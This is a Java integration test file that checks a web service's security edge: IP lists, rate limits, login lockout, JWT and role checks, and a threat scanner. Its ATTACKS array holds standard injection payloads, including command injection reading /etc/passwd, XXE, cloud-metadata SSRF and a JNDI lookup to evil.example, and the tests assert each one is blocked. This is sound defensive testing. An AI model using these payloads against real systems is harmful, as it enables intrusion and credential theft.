package io.antbot.web;

import static io.antbot.testing.Eventually.eventually;
import static org.assertj.core.api.Assertions.assertThat;

import io.antbot.bus.Addresses;
import io.antbot.launcher.AntBot;
import io.antbot.launcher.LaunchOptions;
import io.antbot.local.EdgeGate;
import io.antbot.local.LocalServices;
import io.antbot.security.SecurityTestSupport;
import io.antbot.testing.Eventually;
import io.antbot.testing.TestConf;
import io.vertx.core.Future;
import io.vertx.core.Promise;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpClient;
import io.vertx.core.http.HttpClientOptions;
import io.vertx.core.http.HttpConnection;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.http.PoolOptions;
import io.vertx.core.http.RequestOptions;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.ext.web.client.WebClient;
import io.vertx.ext.web.client.WebClientOptions;
import io.vertx.junit5.VertxExtension;
import io.vertx.junit5.VertxTestContext;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * The edge chain through real HTTP requests against the whole runtime (staging, port 0): IP lists,
 * rate limits, threat scan, JWT authentication and the role check, with security headers on every
 * response.
 */
@ExtendWith(VertxExtension.class)
class EdgeChainHttpTest {

  private static final String PASSWORD = "correct horse battery staple";

  @TempDir static Path dir;

  private static WebClient client;
  private static int port;
  private static String adminToken;
  private static String viewerToken;

  @BeforeAll
  static void start(Vertx vertx, VertxTestContext test) throws IOException {
    Path conf = TestConf.copyIsolated(dir.resolve("conf"));
    SecurityTestSupport.presetRsaKey(dir.resolve("conf").resolve("var"));
    Files.writeString(
        conf.resolve("staging.yaml"),
        """

      security:
        bcrypt_cost: 4
        rsa: {key_bits: 2048}
        jwt: {rsa_bits: 2048}
        audit: {fsync: false}
        lockout: {max_failures_per_user: 3, lockout_base_s: 1}
        rate_limits:
          policies:
            login: {capacity: 50, refill: 50, period_s: 60}
            tight: {capacity: 2, refill: 2, period_s: 60}
      """,
        StandardOpenOption.APPEND);
    AntBot.start(vertx, new LaunchOptions(conf.toString(), "staging", 0))
        .compose(
            id -> vertx.eventBus().<JsonObject>request(Addresses.HTTP_STATUS, new JsonObject()))
        .compose(
            status -> {
              port = status.body().getJsonObject("details").getInteger("port");
              client =
                  WebClient.create(
                      vertx,
                      new WebClientOptions().setDefaultHost("127.0.0.1").setDefaultPort(port));
              return Future.all(
                  addUser(vertx, "edgeadmin", "admin"),
                  addUser(vertx, "edgeviewer", "viewer"),
                  addUser(vertx, "edgelocked", "viewer"));
            })
        .compose(v -> login("edgeadmin", PASSWORD))
        .compose(
            admin -> {
              adminToken = admin.bodyAsJsonObject().getString("access_token");
              return login("edgeviewer", PASSWORD);
            })
        .onComplete(
            test.succeeding(
                viewer -> {
                  viewerToken = viewer.bodyAsJsonObject().getString("access_token");
                  test.verify(() -> assertThat(adminToken).isNotNull());
                  test.completeNow();
                }));
  }

  private static Future<Void> addUser(Vertx vertx, String name, String role) {
    return vertx
        .eventBus()
        .request(
            Addresses.SECURITY_USERS_ADD,
            new JsonObject()
                .put("username", name)
                .put("password", PASSWORD)
                .put("roles", new JsonArray().add(role)))
        .mapEmpty();
  }

  private static Future<HttpResponse<Buffer>> login(String user, String password) {
    return client
        .post("/api/v1/auth/login")
        .sendJsonObject(new JsonObject().put("username", user).put("password", password));
  }

  /**
   * Sets {@code key} and waits until the security service applies that version: the service takes a
   * change from the broadcast, after the write's reply.
   */
  private static Future<Void> set(Vertx vertx, String key, Object value) {
    return vertx
        .eventBus()
        .<JsonObject>request(
            Addresses.CONFIG_SET,
            new JsonObject()
                .put("key", key)
                .put("value", value)
                .put("reason", "test")
                .put("actor", "tester"))
        .compose(
            reply -> {
              long version = reply.body().getLong("version");
              return Eventually.eventually(
                  vertx,
                  () ->
                      vertx
                          .eventBus()
                          .<JsonObject>request(
                              Addresses.status(io.antbot.bus.Services.SECURITY), new JsonObject())
                          .map(
                              status ->
                                  status
                                          .body()
                                          .getJsonObject("details")
                                          .getLong("config_version", -1L)
                                      >= version));
            });
  }

  /**
   * The value as an attack in the query string of a public-looking API request, or in a body for
   * XML / JSON.
   */
  private static Future<HttpResponse<Buffer>> attack(String category, String payload) {
    return switch (category) {
      case "xxe" ->
          client
              .post("/api/v1/config/validate")
              .timeout(5000)
              .putHeader("Content-Type", "application/xml")
              .sendBuffer(Buffer.buffer(payload));
      case "nosql" ->
          client.post("/api/v1/auth/login").timeout(5000).sendJsonObject(new JsonObject(payload));
      default -> client.get("/api/v1/config").timeout(5000).addQueryParam("q", payload).send();
    };
  }

  private static final String[][] ATTACKS = {
    {"sqli", "1' or '1'='1"},
    {"xss", "<img src=x onerror=alert(1)>"},
    {"traversal", "../../../../etc/passwd"},
    {"command", "127.0.0.1; cat /etc/passwd"},
    {"ldap", "*)(uid=*))(|(uid=*"},
    {
      "xxe",
      "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"
    },
    {"ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
    {"template", "{{config.items()}}"},
    {"jndi", "${jndi:ldap://evil.example/a}"},
    {"nosql", "{\"username\": \"edgeadmin\", \"password\": {\"$gt\": \"\"}}"},
  };

  @Test
  @DisplayName("an attack of each category is refused with 403 problem+json that names no rule")
  void attacksBlocked(VertxTestContext test) {
    List<Future<HttpResponse<Buffer>>> sent = new ArrayList<>();
    for (String[] attack : ATTACKS) {
      sent.add(
          attack(attack[0], attack[1]).recover(f -> Future.failedFuture(attack[0] + ": " + f)));
    }
    Future.all(sent)
        .onComplete(
            test.succeeding(
                all ->
                    test.verify(
                        () -> {
                          for (int i = 0; i < ATTACKS.length; i++) {
                            HttpResponse<Buffer> response = sent.get(i).result();
                            assertThat(response.statusCode()).as(ATTACKS[i][0]).isEqualTo(403);
                            assertThat(response.getHeader("Content-Type"))
                                .isEqualTo(Problem.CONTENT_TYPE);
                            JsonObject problem = response.bodyAsJsonObject();
                            assertThat(problem.getString("detail"))
                                .as(ATTACKS[i][0])
                                .isEqualTo("request blocked");
                            assertThat(response.bodyAsString())
                                .doesNotContain(
                                    "sqli", "xss", "lfi", "cmd-", "ldap", "xxe", "ssrf", "ssti",
                                    "jndi", "nosql", "rule");
                          }
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName("in detect-only mode attacks pass and a threat_detected event is recorded")
  void detectOnly(Vertx vertx, VertxTestContext test) {
    String probe = "1' or '1'='1";
    set(vertx, "security.threats.mode", "detect-only")
        .compose(
            v ->
                eventually(
                    vertx,
                    () ->
                        client
                            .get("/api/v1/config")
                            .addQueryParam("q", probe)
                            .bearerTokenAuthentication(adminToken)
                            .send()
                            .map(r -> r.statusCode() == 200)))
        .compose(
            v ->
                vertx
                    .eventBus()
                    .<JsonObject>request(
                        Addresses.SECURITY_EVENTS_QUERY, new JsonObject().put("limit", 50)))
        .compose(events -> set(vertx, "security.threats.mode", "block").map(events.body()))
        .compose(
            events ->
                eventually(
                        vertx,
                        () ->
                            client
                                .get("/api/v1/config")
                                .addQueryParam("q", probe)
                                .bearerTokenAuthentication(adminToken)
                                .send()
                                .map(r -> r.statusCode() == 403))
                    .map(events))
        .onComplete(
            test.succeeding(
                events ->
                    test.verify(
                        () -> {
                          assertThat(
                                  events.getJsonArray("events").stream()
                                      .map(JsonObject.class::cast)
                                      .filter(e -> "threat_detected".equals(e.getString("type")))
                                      .anyMatch(
                                          e -> !e.getJsonObject("details").getBoolean("blocked")))
                              .isTrue();
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName("failed logins lock the user out with 429, and the lock lifts by itself")
  void lockoutAndUnlock(Vertx vertx, VertxTestContext test) {
    login("edgelocked", "wrong password 1")
        .compose(r -> login("edgelocked", "wrong password 2"))
        .compose(r -> login("edgelocked", "wrong password 3"))
        .compose(
            third -> {
              test.verify(() -> assertThat(third.statusCode()).isEqualTo(401));
              return login("edgelocked", PASSWORD);
            })
        .compose(
            locked -> {
              test.verify(
                  () -> {
                    assertThat(locked.statusCode()).isEqualTo(429);
                    assertThat(locked.bodyAsJsonObject().getString("detail"))
                        .isEqualTo("too many failed logins; try again in 1 s");
                  });
              return delay(vertx, 1_100).compose(v -> login("edgelocked", PASSWORD));
            })
        .onComplete(
            test.succeeding(
                unlocked ->
                    test.verify(
                        () -> {
                          assertThat(unlocked.statusCode()).isEqualTo(200);
                          assertThat(unlocked.bodyAsJsonObject().getString("access_token"))
                              .isNotBlank();
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName(
      "the login limit answers 429 with exact headers, and a spoofed X-Forwarded-For does not reset it")
  void loginRateLimit(Vertx vertx, VertxTestContext test) {
    set(vertx, "security.rate_limits.route_classes", new JsonObject().put("login", "tight"))
        .compose(
            v ->
                eventually(
                    vertx,
                    () ->
                        vertx
                            .eventBus()
                            .<JsonObject>request(
                                Addresses.SECURITY_EDGE_ADMIT,
                                new JsonObject()
                                    .put("remote_ip", "192.0.2.99")
                                    .put("route_class", "login"))
                            .map(
                                reply ->
                                    reply
                                        .body()
                                        .getJsonObject("headers")
                                        .getString("RateLimit-Policy", "")
                                        .contains("tight"))))
        .compose(v -> spoofed("198.51.100.1"))
        .compose(first -> spoofed("198.51.100.2"))
        .compose(second -> spoofed("198.51.100.3"))
        .onComplete(
            test.succeeding(
                third ->
                    test.verify(
                        () -> {
                          assertThat(third.statusCode()).isEqualTo(429);
                          assertThat(third.getHeader("Content-Type"))
                              .isEqualTo(Problem.CONTENT_TYPE);
                          assertThat(third.bodyAsJsonObject().getString("detail"))
                              .isEqualTo("rate limit exceeded");
                          assertThat(third.getHeader("RateLimit-Policy"))
                              .isEqualTo("\"tight\";q=2;w=60");
                          assertThat(third.getHeader("RateLimit")).isEqualTo("\"tight\";r=0;t=60");
                          assertThat(third.getHeader("Retry-After")).isEqualTo("30");
                          set(
                                  vertx,
                                  "security.rate_limits.route_classes",
                                  new JsonObject().put("login", "login"))
                              .onComplete(test.succeedingThenComplete());
                        })));
  }

  private static Future<HttpResponse<Buffer>> spoofed(String forwardedFor) {
    return client
        .post("/api/v1/auth/login")
        .putHeader("X-Forwarded-For", forwardedFor)
        .sendJsonObject(new JsonObject().put("username", "nobody").put("password", "x"));
  }

  @Test
  @DisplayName("a deny-listed peer stays refused whatever X-Forwarded-For it sends")
  void denyListNotEscaped(Vertx vertx, VertxTestContext test) {
    set(vertx, "security.ip_lists.deny", new JsonArray().add("127.0.0.1"))
        .compose(
            v ->
                eventually(
                    vertx,
                    () ->
                        client
                            .get("/api/v1/openapi.json")
                            .putHeader("X-Forwarded-For", "198.51.100.7")
                            .send()
                            .map(r -> r.statusCode() == 403)))
        .compose(
            v ->
                client
                    .get("/api/v1/config")
                    .putHeader("X-Forwarded-For", "198.51.100.7")
                    .bearerTokenAuthentication(adminToken)
                    .send())
        .compose(denied -> set(vertx, "security.ip_lists.deny", new JsonArray()).map(denied))
        .compose(
            denied ->
                eventually(
                        vertx,
                        () ->
                            client
                                .get("/api/v1/openapi.json")
                                .send()
                                .map(r -> r.statusCode() == 200))
                    .map(denied))
        .onComplete(
            test.succeeding(
                denied ->
                    test.verify(
                        () -> {
                          assertThat(denied.statusCode()).isEqualTo(403);
                          assertThat(denied.bodyAsJsonObject().getString("detail"))
                              .isEqualTo("access denied");
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName(
      "failed logins lock a user from that address only; the owner elsewhere logs in; an admin unlocks")
  void lockoutPerUserAndAddress(Vertx vertx, VertxTestContext test) {
    JsonObject wrong =
        new JsonObject().put("username", "edgeowner").put("password", "not the password at all");
    JsonObject right = new JsonObject().put("username", "edgeowner").put("password", PASSWORD);
    addUser(vertx, "edgeowner", "viewer")
        .compose(
            v -> set(vertx, "security.ip_lists.trusted_proxies", new JsonArray().add("127.0.0.1")))
        .compose(v -> set(vertx, "security.lockout.lockout_base_s", 60))
        .compose(v -> from("203.0.113.50", wrong))
        .compose(v -> from("203.0.113.50", wrong))
        .compose(v -> from("203.0.113.50", wrong))
        .compose(v -> from("203.0.113.50", right))
        .compose(lockedOut -> from("198.51.100.60", right).map(owner -> List.of(lockedOut, owner)))
        .compose(
            two ->
                client
                    .post("/api/v1/users/edgeowner/unlock")
                    .bearerTokenAuthentication(adminToken)
                    .send()
                    .map(unlock -> List.of(two.get(0), two.get(1), unlock)))
        .compose(
            three ->
                from("203.0.113.50", right)
                    .map(after -> List.of(three.get(0), three.get(1), three.get(2), after)))
        .compose(
            all ->
                set(vertx, "security.ip_lists.trusted_proxies", new JsonArray())
                    .compose(v -> set(vertx, "security.lockout.lockout_base_s", 1))
                    .map(all))
        .onComplete(
            test.succeeding(
                all ->
                    test.verify(
                        () -> {
                          assertThat(all.get(0).statusCode())
                              .as("the attacker's address is locked")
                              .isEqualTo(429);
                          assertThat(all.get(0).bodyAsJsonObject().getString("detail"))
                              .startsWith("too many failed logins; try again in");
                          assertThat(all.get(1).statusCode())
                              .as("the owner from elsewhere")
                              .isEqualTo(200);
                          assertThat(all.get(2).statusCode()).isEqualTo(200);
                          assertThat(all.get(2).bodyAsJsonObject())
                              .isEqualTo(
                                  new JsonObject().put("user", "edgeowner").put("unlocked", 1));
                          assertThat(all.get(3).statusCode()).as("unlocked").isEqualTo(200);
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName(
      "lockout.enabled: false releases the locks in force at once; switched back on, they do not return")
  void lockoutSwitchReleases(Vertx vertx, VertxTestContext test) {
    JsonObject wrong =
        new JsonObject().put("username", "edgeswitch").put("password", "not the password at all");
    JsonObject right = new JsonObject().put("username", "edgeswitch").put("password", PASSWORD);
    String attacker = "203.0.113.70";
    List<HttpResponse<Buffer>> seen = new ArrayList<>();
    addUser(vertx, "edgeswitch", "viewer")
        .compose(
            v -> set(vertx, "security.ip_lists.trusted_proxies", new JsonArray().add("127.0.0.1")))
        .compose(v -> set(vertx, "security.lockout.lockout_base_s", 600))
        .compose(v -> from(attacker, wrong))
        .compose(v -> from(attacker, wrong))
        .compose(v -> from(attacker, wrong))
        .compose(v -> from(attacker, right))
        .compose(
            locked -> {
              seen.add(locked);
              return set(vertx, "security.lockout.enabled", false);
            })
        .compose(
            v -> eventually(vertx, () -> from(attacker, right).map(r -> r.statusCode() == 200)))
        .compose(v -> set(vertx, "security.lockout.enabled", true))
        .compose(v -> from(attacker, right))
        .compose(
            after -> {
              seen.add(after);
              return set(vertx, "security.ip_lists.trusted_proxies", new JsonArray())
                  .compose(v -> set(vertx, "security.lockout.lockout_base_s", 1));
            })
        .onComplete(
            test.succeeding(
                v ->
                    test.verify(
                        () -> {
                          assertThat(seen.get(0).statusCode())
                              .as("locked before the switch")
                              .isEqualTo(429);
                          assertThat(seen.get(1).statusCode())
                              .as("switched back on: the released lock stays released")
                              .isEqualTo(200);
                          test.completeNow();
                        })));
  }

  private static Future<HttpResponse<Buffer>> from(String address, JsonObject login) {
    return client
        .post("/api/v1/auth/login")
        .putHeader("X-Forwarded-For", address)
        .sendJsonObject(login);
  }

  @Test
  @DisplayName("POST /auth/refresh records the address the edge saw, not a source_ip from the body")
  void refreshSourceIpFromTheEdge(Vertx vertx, VertxTestContext test) {
    login("edgeviewer", PASSWORD)
        .compose(
            pair ->
                client
                    .post("/api/v1/auth/refresh")
                    .sendJsonObject(
                        new JsonObject()
                            .put(
                                "refresh_token", pair.bodyAsJsonObject().getString("refresh_token"))
                            .put("source_ip", "203.0.113.99")))
        .compose(
            refreshed ->
                vertx
                    .eventBus()
                    .<JsonObject>request(
                        Addresses.SECURITY_AUDIT_QUERY,
                        new JsonObject().put("type", "token_refreshed").put("limit", 1))
                    .map(reply -> List.of(refreshed, reply.body())))
        .onComplete(
            test.succeeding(
                results ->
                    test.verify(
                        () -> {
                          assertThat(((HttpResponse<?>) results.get(0)).statusCode())
                              .isEqualTo(200);
                          JsonObject entry =
                              ((JsonObject) results.get(1))
                                  .getJsonArray("entries")
                                  .getJsonObject(0);
                          assertThat(entry.getString("source_ip")).isEqualTo("127.0.0.1");
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName(
      "behind a trusted proxy that adds its own X-Forwarded-For line, the client cannot pick its address")
  void forwardedForLinesReadInOrder(Vertx vertx, VertxTestContext test) {
    set(vertx, "security.ip_lists.trusted_proxies", new JsonArray().add("127.0.0.1"))
        .compose(v -> set(vertx, "security.ip_lists.deny", new JsonArray().add("198.51.100.7")))
        .compose(
            v ->
                eventually(
                    vertx,
                    () ->
                        client
                            .get("/api/v1/openapi.json")
                            .putHeader("X-Forwarded-For", "198.51.100.7")
                            .send()
                            .map(r -> r.statusCode() == 403)))
        .compose(
            v -> {
              io.vertx.core.MultiMap headers =
                  io.vertx.core.MultiMap.caseInsensitiveMultiMap()
                      .add("X-Forwarded-For", "203.0.113.5")
                      .add("X-Forwarded-For", "198.51.100.7");
              return client.get("/api/v1/openapi.json").putHeaders(headers).send();
            })
        .compose(
            denied ->
                set(vertx, "security.ip_lists.deny", new JsonArray())
                    .compose(v -> set(vertx, "security.ip_lists.trusted_proxies", new JsonArray()))
                    .compose(
                        v ->
                            eventually(
                                vertx,
                                () ->
                                    client
                                        .get("/api/v1/openapi.json")
                                        .send()
                                        .map(r -> r.statusCode() == 200)))
                    .map(denied))
        .onComplete(
            test.succeeding(
                denied ->
                    test.verify(
                        () -> {
                          assertThat(denied.statusCode()).isEqualTo(403);
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName(
      "no token is 401, a role without the permission is 403, a good token is 200, with security headers")
  void authentication(VertxTestContext test) {
    Future<HttpResponse<Buffer>> none = client.get("/api/v1/config").send();
    Future<HttpResponse<Buffer>> bad =
        client.get("/api/v1/config").bearerTokenAuthentication("not.a.token").send();
    Future<HttpResponse<Buffer>> viewerWrites =
        client
            .put("/api/v1/config/trading.dry_run")
            .bearerTokenAuthentication(viewerToken)
            .sendJsonObject(new JsonObject().put("value", true));
    Future<HttpResponse<Buffer>> good =
        client.get("/api/v1/config").bearerTokenAuthentication(viewerToken).send();
    Future.all(none, bad, viewerWrites, good)
        .onComplete(
            test.succeeding(
                all ->
                    test.verify(
                        () -> {
                          assertThat(none.result().statusCode()).isEqualTo(401);
                          assertThat(none.result().bodyAsJsonObject().getString("detail"))
                              .isEqualTo("missing bearer token");
                          assertThat(bad.result().statusCode()).isEqualTo(401);
                          assertThat(bad.result().bodyAsJsonObject().getString("detail"))
                              .startsWith("token rejected: ");
                          assertThat(viewerWrites.result().statusCode()).isEqualTo(403);
                          assertThat(good.result().statusCode()).isEqualTo(200);
                          assertThat(good.result().bodyAsJsonObject().getJsonObject("config"))
                              .isNotNull();
                          for (HttpResponse<Buffer> response :
                              List.of(none.result(), viewerWrites.result(), good.result())) {
                            assertThat(response.getHeader("X-Content-Type-Options"))
                                .isEqualTo("nosniff");
                            assertThat(response.getHeader("X-Frame-Options")).isEqualTo("DENY");
                            assertThat(response.getHeader("Referrer-Policy"))
                                .isEqualTo("no-referrer");
                            assertThat(response.getHeader("Cache-Control")).isEqualTo("no-store");
                            assertThat(response.getHeader("Strict-Transport-Security")).isNull();
                          }
                          test.completeNow();
                        })));
  }

  /**
   * The token cut from a connection's {@code Authorization} header is kept on the connection for
   * its next request with the same header: each request of one connection here changes it.
   */
  @Test
  @DisplayName(
      "on one connection each request is judged by its own Authorization header, whatever came before")
  void tokenPerRequestOnOneConnection(Vertx vertx, VertxTestContext test) {
    HttpClient oneConnection =
        vertx.createHttpClient(
            new HttpClientOptions().setKeepAlive(true), new PoolOptions().setHttp1MaxSize(1));
    String[] headers = {
      "Bearer " + adminToken,
      "Bearer " + viewerToken,
      "Bearer " + viewerToken + "x",
      null,
      "bearer " + adminToken,
      "Basic " + adminToken,
      "Bearer " + adminToken
    };
    List<String> answers = new ArrayList<>();
    List<HttpConnection> connections = new ArrayList<>();
    Future<Void> chain = Future.succeededFuture();
    for (String header : headers) {
      chain =
          chain.compose(
              v -> {
                RequestOptions options =
                    new RequestOptions()
                        .setMethod(HttpMethod.GET)
                        .setHost("127.0.0.1")
                        .setPort(port)
                        .setURI("/api/v1/auth/me");
                if (header != null) {
                  options.putHeader("Authorization", header);
                }
                return oneConnection
                    .request(options)
                    .compose(
                        request -> {
                          connections.add(request.connection());
                          return request.send();
                        })
                    .compose(
                        response ->
                            response
                                .body()
                                .map(
                                    body -> {
                                      answers.add(
                                          response.statusCode()
                                              + " "
                                              + (response.statusCode() == 200
                                                  ? body.toJsonObject().getString("user")
                                                  : body.toJsonObject().getString("detail")));
                                      return null;
                                    }));
              });
    }
    chain
        .eventually(oneConnection::close)
        .onComplete(
            test.succeeding(
                v ->
                    test.verify(
                        () -> {
                          assertThat(connections).hasSize(headers.length);
                          assertThat(connections)
                              .allSatisfy(c -> assertThat(c).isSameAs(connections.get(0)));
                          assertThat(answers.get(0)).isEqualTo("200 edgeadmin");
                          assertThat(answers.get(1)).isEqualTo("200 edgeviewer");
                          assertThat(answers.get(2)).startsWith("401 token rejected: ");
                          assertThat(answers.get(3)).isEqualTo("401 missing bearer token");
                          assertThat(answers.get(4)).isEqualTo("200 edgeadmin");
                          assertThat(answers.get(5)).isEqualTo("401 missing bearer token");
                          assertThat(answers.get(6)).isEqualTo("200 edgeadmin");
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName(
      "health routes answer without a token and carry the security headers; a too large body is 413")
  void outsideTheChain(VertxTestContext test) {
    Future<HttpResponse<Buffer>> live = client.get("/health/live").send();
    Future<HttpResponse<Buffer>> large =
        client
            .post("/api/v1/security/scan")
            .bearerTokenAuthentication(adminToken)
            .putHeader("Content-Type", "application/json")
            .sendBuffer(Buffer.buffer(new byte[2 * 1024 * 1024]));
    Future.all(live, large)
        .onComplete(
            test.succeeding(
                all ->
                    test.verify(
                        () -> {
                          assertThat(live.result().statusCode()).isEqualTo(200);
                          assertThat(live.result().getHeader("X-Content-Type-Options"))
                              .isEqualTo("nosniff");
                          assertThat(live.result().getHeader("Cache-Control")).isNull();
                          assertThat(large.result().statusCode()).isEqualTo(413);
                          assertThat(large.result().getHeader("Content-Type"))
                              .isEqualTo(Problem.CONTENT_TYPE);
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName(
      "an attack in the second value of a repeated header, or behind 12 or 40 harmless headers, is"
          + " refused with 403")
  void attacksInHeaders(VertxTestContext test) {
    String xss = "<img src=x onerror=alert(1)>";
    Future<HttpResponse<Buffer>> repeated =
        client
            .get("/api/v1/auth/me")
            .bearerTokenAuthentication(viewerToken)
            .putHeader("X-Note", List.of("hello", xss))
            .send();
    var many = client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken);
    for (int i = 0; i < 40; i++) {
      many.putHeader("X-Filler-" + i, "value " + i);
    }
    Future<HttpResponse<Buffer>> crowded =
        many.putHeader("X-Filler-7", List.of("value 7", xss)).send();
    // More names than the first guess of the chain's header list (8), fewer than its limit (32).
    var several = client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken);
    for (int i = 0; i < 12; i++) {
      several.putHeader("X-Filler-" + i, "value " + i);
    }
    Future<HttpResponse<Buffer>> middling = several.putHeader("X-Last", xss).send();
    Future<HttpResponse<Buffer>> clean =
        client
            .get("/api/v1/auth/me")
            .bearerTokenAuthentication(viewerToken)
            .putHeader("X-Note", List.of("hello", "world"))
            .send();
    Future.all(repeated, crowded, middling, clean)
        .onComplete(
            test.succeeding(
                all ->
                    test.verify(
                        () -> {
                          assertThat(repeated.result().statusCode()).isEqualTo(403);
                          assertThat(crowded.result().statusCode()).isEqualTo(403);
                          assertThat(middling.result().statusCode()).isEqualTo(403);
                          assertThat(crowded.result().bodyAsJsonObject().getString("detail"))
                              .isEqualTo("request blocked");
                          assertThat(clean.result().statusCode()).isEqualTo(200);
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName(
      "GET /auth/me names the caller with roles and token expiry; without a valid token it is 401")
  void whoAmI(VertxTestContext test) {
    Future<HttpResponse<Buffer>> me =
        client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken).send();
    Future<HttpResponse<Buffer>> none = client.get("/api/v1/auth/me").send();
    Future<HttpResponse<Buffer>> bad =
        client.get("/api/v1/auth/me").bearerTokenAuthentication("not.a.token").send();
    Future.all(me, none, bad)
        .onComplete(
            test.succeeding(
                all ->
                    test.verify(
                        () -> {
                          assertThat(me.result().statusCode()).isEqualTo(200);
                          JsonObject caller = me.result().bodyAsJsonObject();
                          assertThat(caller.getString("user")).isEqualTo("edgeviewer");
                          assertThat(caller.getJsonArray("roles")).containsExactly("viewer");
                          assertThat(caller.getJsonArray("permissions")).contains("*:read");
                          assertThat(java.time.Instant.parse(caller.getString("expires_at")))
                              .isAfter(java.time.Instant.now());
                          assertThat(me.result().getHeader("Cache-Control")).isEqualTo("no-store");
                          assertThat(none.result().statusCode()).isEqualTo(401);
                          assertThat(none.result().bodyAsJsonObject().getString("detail"))
                              .isEqualTo("missing bearer token");
                          assertThat(bad.result().statusCode()).isEqualTo(401);
                          test.completeNow();
                        })));
  }

  @Test
  @DisplayName("without the in-process gate the chain takes the same decisions over the bus")
  void overTheBus(Vertx vertx, VertxTestContext test) {
    EdgeGate local =
        LocalServices.lookup(vertx, LocalServices.EDGE_GATE, EdgeGate.class).orElseThrow();
    LocalServices.withdraw(vertx, LocalServices.EDGE_GATE, local);
    java.util.concurrent.atomic.AtomicInteger overBus =
        new java.util.concurrent.atomic.AtomicInteger();
    io.vertx.core.Handler<io.vertx.core.eventbus.DeliveryContext<Object>> counter =
        delivery -> {
          String address = delivery.message().address();
          if (address.equals(Addresses.SECURITY_EDGE_ADMIT)
              || address.equals(Addresses.SECURITY_EDGE_INSPECT)) {
            overBus.incrementAndGet();
          }
          delivery.next();
        };
    vertx.eventBus().addOutboundInterceptor(counter);
    Future<HttpResponse<Buffer>> attack = attack("sqli", "1' or '1'='1");
    Future<HttpResponse<Buffer>> none = client.get("/api/v1/config").send();
    Future<HttpResponse<Buffer>> viewerWrites =
        client
            .put("/api/v1/config/trading.dry_run")
            .bearerTokenAuthentication(viewerToken)
            .sendJsonObject(new JsonObject().put("value", true));
    Future<HttpResponse<Buffer>> me =
        client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken).send();
    Future.join(attack, none, viewerWrites, me)
        .onComplete(
            done -> {
              LocalServices.publish(vertx, LocalServices.EDGE_GATE, local);
              vertx.eventBus().removeOutboundInterceptor(counter);
              test.verify(
                  () -> {
                    assertThat(overBus.get())
                        .as("decisions over the bus: two per request")
                        .isEqualTo(8);
                    assertThat(done.succeeded()).as(String.valueOf(done.cause())).isTrue();
                    assertThat(attack.result().statusCode()).isEqualTo(403);
                    assertThat(attack.result().bodyAsJsonObject().getString("detail"))
                        .isEqualTo("request blocked");
                    assertThat(none.result().statusCode()).isEqualTo(401);
                    assertThat(viewerWrites.result().statusCode()).isEqualTo(403);
                    assertThat(me.result().statusCode()).isEqualTo(200);
                    assertThat(me.result().bodyAsJsonObject().getString("user"))
                        .isEqualTo("edgeviewer");
                    assertThat(me.result().getHeader("RateLimit-Policy")).isNotBlank();
                  });
              test.completeNow();
            });
  }

  private static Future<Void> delay(Vertx vertx, long ms) {
    Promise<Void> done = Promise.promise();
    vertx.setTimer(ms, id -> done.complete());
    return done.future();
  }
}
